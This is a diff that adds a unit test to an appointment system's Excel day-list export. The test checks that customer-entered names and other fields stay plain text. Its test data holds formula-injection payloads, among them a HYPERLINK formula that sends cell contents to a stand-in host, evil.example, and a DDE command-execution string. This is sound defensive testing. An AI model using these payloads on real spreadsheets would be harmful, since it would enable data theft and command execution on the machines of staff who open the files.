@@ -369,3 +369,44 @@ def test_the_list_header_counts_one_appointment_in_the_singular() -> None:
     wb = load_workbook(io.BytesIO(content))
     assert " · 1 Termin (davon 0 storniert) · " in str(wb["Eingangszone"]["A3"].value)
     assert " · 0 Termine (davon 0 storniert) · " in str(wb["Leistungsteam 1"]["A3"].value)
+
+
+@pytest.mark.req("R22")
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_list() -> None:
+    """Formula injection: what a customer types as a name is shown, never run, when staff open the list."""
+    start = berlin(DAY, 9)
+    typed = {
+        "last_name": '=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
+        "first_name": "@SUM(1+1)",
+        "concern": "+Veränderungsmitteilung",
+        "reference": "-ABCD-EFGH",
+    }
+    row = DayListRow(
+        group_id="ez",
+        group_name="=Eingangszone",
+        start=start,
+        end=start + timedelta(minutes=15),
+        service_point=1,
+        customer_number=None,
+        household_number="=1+1",
+        mode="in_person",
+        phone=None,
+        interpreter_language="=cmd|' /C calc'!A0",
+        status="booked",
+        outcome=None,
+        **typed,
+    )
+    content = build_day_list(
+        location_id="mitte",
+        location_name="Bremen-Mitte",
+        day=DAY,
+        groups=[("ez", "=Eingangszone")],
+        rows=[row],
+        generated_at=berlin(DAY, 6),
+    )
+    ws = load_workbook(io.BytesIO(content)).worksheets[0]
+    cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
+    shown = {str(c.value) for c in cells}
+    assert f"{typed['last_name']}, {typed['first_name']}" in shown
+    assert "=cmd|' /C calc'!A0" in shown and typed["reference"] in shown
